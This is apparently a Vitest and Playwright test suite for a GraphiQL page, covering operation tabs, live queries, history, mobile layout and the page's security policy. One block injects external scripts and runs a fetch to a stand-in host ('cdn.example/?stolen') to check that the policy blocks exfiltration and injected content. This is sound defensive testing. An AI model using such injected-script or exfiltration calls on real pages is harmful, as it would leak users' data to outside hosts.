import { readdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { useGraphiql } from './_support/graphiql.ts';

const OPERATIONS = readdirSync(new URL('../../schema/operations/', import.meta.url)).map((file) =>
  file.replace('.graphql', ''),
);
const PICTURE = fileURLToPath(new URL('../fixtures/graphiql.png', import.meta.url));
const SECRET = 'secret-of-a-caller-0123456789';
const LIVE = new Set(['FollowCheckpoint', 'RunningTasks']);
const OWN = '{ upstreams { name } }';

// The page is nine megabytes of script, and a busy machine takes seconds to read it.
vi.setConfig({ testTimeout: 60_000 });

const graphiql = useGraphiql();
const { open, openAnew, kept, brokenRules, tabNames, selected, text, history, clickOnce, run, follow, stop } = graphiql;

// These and the next share the page that was opened first.
describe('a first visit to GraphiQL', () => {
  it('shows a tab for each stored operation, the vault overview first', async () => {
    const asFiles = (await tabNames()).map((name) => name.replaceAll(/\B[A-Z]/g, '-$&').toLowerCase());
    expect(asFiles[0]).toBe('vault-overview');
    expect(asFiles.sort()).toEqual(OPERATIONS.sort());
  });

  it('shows the vaults of the sandbox at the press of a button, and asks nothing of any other origin', async () => {
    const { page, browser } = graphiql;
    await run();
    const result = page.locator('.result-window');
    await result.getByText('"vault-orders-prod"').waitFor();
    if (process.env.SCREENSHOT === '1') await page.screenshot({ path: PICTURE, animations: 'disabled' });
    expect(await result.textContent()).toContain('orders-db-01');
    expect(browser.foreignRequests).toEqual([]);
  });

  it('works in workers of its own, and within the rules of its page', async () => {
    expect(graphiql.page.workers().length).toBeGreaterThan(0);
    expect(await brokenRules()).toEqual([]);
  });

  it('selects each tab by one click, and each does as delivered what it is there for', async () => {
    const names = await tabNames();
    expect(await selected()).toEqual(names.slice(0, 1));
    for (const name of [...names.slice(1), ...names.slice(0, 1)]) {
      await clickOnce(name);
      await expect.poll(selected).toEqual([name]);
      await expect.poll(() => text('query-editor')).toContain(name);
      if (LIVE.has(name)) {
        expect(await follow()).toBe('text/event-stream; charset=utf-8');
        await graphiql.page.locator('.result-window').getByText('"data"').waitFor();
        await stop();
        continue;
      }
      const { body } = await run();
      expect(body).not.toHaveProperty('errors');
      const [field] = Object.values(body.data ?? {});
      expect(field).not.toBeNull();
      if (field.__typename) expect(field).toMatchObject({ __typename: `${name}Payload` });
    }
    await clickOnce('VaultDetail');
    await graphiql.page.waitForURL(/VaultDetail/);
    await graphiql.page.reload();
    await expect.poll(selected).toEqual(['VaultDetail']);
    expect(await tabNames()).toEqual(names);
    await expect.poll(() => text('editor-tool')).toContain('vault:sg:');
  });
});

describe('the page of GraphiQL', () => {
  it.each([
    ['a script from outside', 'script', { src: 'https://cdn.example/a.js' }, 'script-src-elem'],
    ['a script written into it', 'script', { textContent: 'document.title = "taken"' }, 'script-src-elem'],
    ['a picture from outside', 'img', { src: 'https://cdn.example/a.png' }, 'img-src'],
    ['a frame from outside', 'iframe', { src: 'https://cdn.example/' }, 'frame-src'],
    ['a style from outside', 'link', { rel: 'stylesheet', href: 'https://cdn.example/a.css' }, 'style-src-elem'],
  ])('does not let in %s', async (_name, kind, properties, rule) => {
    const { page, browser } = graphiql;
    await page.evaluate(
      `void document.head.append(Object.assign(document.createElement("${kind}"), ${JSON.stringify(properties)}))`,
    );
    await expect.poll(async () => (await brokenRules()).at(-1)).toBe(rule);
    expect([await page.title(), browser.foreignRequests]).toEqual(['checkpoint-gateway', []]);
  });

  it('sends nothing to any other origin', async () => {
    const { page, browser } = graphiql;
    const sent = page.evaluate(
      'fetch("https://cdn.example/?stolen", { mode: "no-cors" }).then(() => "sent", () => "kept")',
    );
    expect([await sent, browser.foreignRequests]).toEqual(['kept', []]);
  });
});

describe('a query in the address', () => {
  it('has a tab of its own, on a first visit and later, and once', async () => {
    for (const visit of [openAnew, open]) {
      await visit(`?query=${encodeURIComponent(OWN)}`);
      await expect.poll(() => text('query-editor')).toMatch(/upstreams\s{\sname\s}/);
      const names = await tabNames();
      expect([names.length, names.at(-1), await selected()]).toEqual([
        OPERATIONS.length + 1,
        '<untitled>',
        ['<untitled>'],
      ]);
    }
    expect((await run()).body).toMatchObject({
      data: { upstreams: [{ name: 'sg' }, { name: 'eu' }, { name: 'lab' }] },
    });
    await clickOnce('VaultOverview');
    await expect.poll(() => text('query-editor')).toContain('VaultOverview');
    expect(await brokenRules()).toEqual([]);
  });
});

describe('what is sent by GraphiQL', () => {
  it('is in its history the next time, without its headers, which are kept nowhere', async () => {
    const { page } = graphiql;
    await openAnew();
    await page.getByRole('button', { name: 'Headers' }).click();
    await page.locator('.graphiql-editor-tool .monaco-editor').last().click();
    await page.keyboard.insertText(`{ "x-auth-token": "${SECRET}" }`);
    await expect.poll(async () => (await run()).headers['x-auth-token']).toBe(SECRET);
    await expect.poll(kept).toContain('"graphiql:queries":"{\\"queries\\":[{');
    expect(await kept()).not.toContain(SECRET);
    await page.reload();
    expect((await run()).headers).not.toHaveProperty('x-auth-token');
    expect((await history())[0]).toBe('VaultOverview');
    expect(await kept()).not.toContain(SECRET);
  });
});

describe('a live query in GraphiQL', () => {
  const result = () => graphiql.page.locator('.result-window');

  beforeEach(async () => {
    await openAnew();
    await clickOnce('FollowCheckpoint');
    await expect.poll(() => text('query-editor')).toContain('FollowCheckpoint');
  });

  it('shows its events as they come, until it is complete', async () => {
    await follow();
    await result().getByText('"status": "PROTECTING"').waitFor();
    const running = graphiql.estate.karbor.checkpoints.find(({ settlesAt }) => settlesAt !== undefined);
    if (!running) throw new Error('The estate has no checkpoint that is being made.');
    running.settlesAt = 0;
    await result().getByText('"status": "AVAILABLE"').waitFor();
    await graphiql.page.getByRole('button', { name: 'Execute query' }).waitFor();
    expect(await brokenRules()).toEqual([]);
  });

  it('opens a stream again that ended without "complete"', async () => {
    const { page } = graphiql;
    const bodies = ['event: next\ndata: {"data":1}\n\n', 'event: next\ndata: {"data":2}\n\nevent: complete\ndata:\n\n'];
    await page.route(
      (url) => url.pathname === '/graphql',
      async (route) => {
        const isLive = route.request().postData()?.includes('FollowCheckpoint');
        if (isLive) await route.fulfill({ contentType: 'text/event-stream', body: bodies.shift() ?? '' });
        else await route.continue();
      },
    );
    await follow();
    await result().getByText('"data": 1').waitFor();
    await result().getByText('"data": 2').waitFor();
    await page.getByRole('button', { name: 'Execute query' }).waitFor();
    await page.unrouteAll();
    expect(bodies).toEqual([]);
  });
});

describe('on a telephone, 390 pixels wide,', () => {
  it('GraphiQL has no more tabs when it is loaded again, each can be chosen, and there is room for an answer', async () => {
    const { page } = graphiql;
    await openAnew();
    await page.setViewportSize({ width: 390, height: 844 });
    await page.reload();
    await expect.poll(tabNames).toHaveLength(OPERATIONS.length);
    expect(await selected()).toEqual(['VaultOverview']);
    for (const name of await tabNames()) {
      await clickOnce(name);
      await expect.poll(selected).toEqual([name]);
    }
    await clickOnce('VaultOverview');
    await run();
    await page.locator('.result-window').getByText('"vault-orders-prod"').waitFor();
    for (const part of ['.graphiql-query-editor .monaco-editor', '.result-window']) {
      const { x, width, y, height } = (await page.locator(part).boundingBox()) ?? { x: 0, width: 0, y: 0, height: 0 };
      expect(width, part).toBeGreaterThan(240);
      expect(height, part).toBeGreaterThan(150);
      expect([x >= 0, x + width <= 390, y + height <= 844]).toEqual([true, true, true]);
    }
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390);
  });
});
